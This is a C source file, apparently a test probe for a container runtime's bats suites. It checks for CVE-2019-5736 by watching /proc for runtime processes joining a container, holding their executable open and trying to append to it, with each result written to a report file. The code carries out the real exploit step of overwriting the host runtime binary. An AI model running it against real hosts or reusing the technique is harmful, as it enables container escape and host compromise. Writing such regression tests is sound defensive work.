/* CVE-2019-5736 from inside a container: watch /proc for processes whose
   executable is not one of the container's files (a runtime process joining
   the container), take hold of that executable as the exploit does, and once
   the process is gone try to write to it.  One line per event goes to the
   report file:
     FOREIGN pid=P exe=LINK dev=D ino=I   held the executable of P
     DENIED pid=P errno=E                 could not open /proc/P/exe
     WRITE pid=P errno=E                  a write while P still runs failed
     AFTER pid=P wrote|errno=E            the write after P exited
   Built static by the bats suites (cli.bats, shim.bats), runs until killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 64
#define MAX_SEEN 4096

static struct
{
  pid_t pid;
  int fd;
} held[MAX_HELD];
static pid_t seen[MAX_SEEN];
static size_t nseen;
static FILE *report;

static void
say (const char *fmt, ...)
{
  va_list ap;
  va_start (ap, fmt);
  vfprintf (report, fmt, ap);
  va_end (ap);
  fflush (report);
}

static int
seen_before (pid_t pid)
{
  for (size_t i = 0; i < nseen; i++)
    if (seen[i] == pid)
      return 1;
  if (nseen < MAX_SEEN)
    seen[nseen++] = pid;
  return 0;
}

/* 0 on success, else errno: reopen the held executable for writing and
   append one byte, as the exploit does to replace the binary.  */
static int
try_write (int fd)
{
  char path[64];
  int w, e = 0;
  snprintf (path, sizeof (path), "/proc/self/fd/%d", fd);
  w = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (w < 0)
    return errno;
  if (write (w, "x", 1) != 1)
    e = errno ? errno : EIO;
  close (w);
  return e;
}

static void
look_at (pid_t pid)
{
  char path[64], link[512];
  struct stat exe, named;
  ssize_t n;
  int fd;

  snprintf (path, sizeof (path), "/proc/%d/exe", (int)pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    {
      if (errno != ENOENT && errno != ESRCH)
        say ("DENIED pid=%d errno=%d\n", (int)pid, errno);
      return;
    }
  n = readlink (path, link, sizeof (link) - 1);
  link[n > 0 ? n : 0] = '\0';
  /* One of the container's own files: not a runtime process.  */
  if (fstat (fd, &exe) < 0 || (stat (link, &named) == 0 && named.st_dev == exe.st_dev && named.st_ino == exe.st_ino))
    {
      close (fd);
      return;
    }
  say ("FOREIGN pid=%d exe=%s dev=%llu ino=%llu\n", (int)pid, link, (unsigned long long)exe.st_dev,
       (unsigned long long)exe.st_ino);
  {
    int e = try_write (fd);
    if (e == 0)
      say ("WRITE pid=%d wrote\n", (int)pid);
    else
      say ("WRITE pid=%d errno=%d\n", (int)pid, e);
  }
  for (int i = 0; i < MAX_HELD; i++)
    if (held[i].pid == 0)
      {
        held[i].pid = pid;
        held[i].fd = fd;
        return;
      }
  close (fd);
}

static void
retry_gone (void)
{
  for (int i = 0; i < MAX_HELD; i++)
    {
      int e;
      if (held[i].pid == 0 || kill (held[i].pid, 0) == 0)
        continue;
      e = try_write (held[i].fd);
      if (e == 0)
        say ("AFTER pid=%d wrote\n", (int)held[i].pid);
      else
        say ("AFTER pid=%d errno=%d\n", (int)held[i].pid, e);
      close (held[i].fd);
      held[i].pid = 0;
    }
}

int
main (int argc, char **argv)
{
  if (argc != 2)
    {
      fprintf (stderr, "usage: exe-probe REPORT\n");
      return 2;
    }
  report = fopen (argv[1], "a");
  if (report == NULL)
    {
      perror (argv[1]);
      return 1;
    }
  say ("READY pid=%d\n", (int)getpid ());
  for (;;)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      if (d == NULL)
        return 1;
      while ((e = readdir (d)) != NULL)
        {
          char *end;
          long pid = strtol (e->d_name, &end, 10);
          if (*end != '\0' || pid <= 0 || pid == getpid () || seen_before ((pid_t)pid))
            continue;
          look_at ((pid_t)pid);
        }
      closedir (d);
      retry_gone ();
    }
}
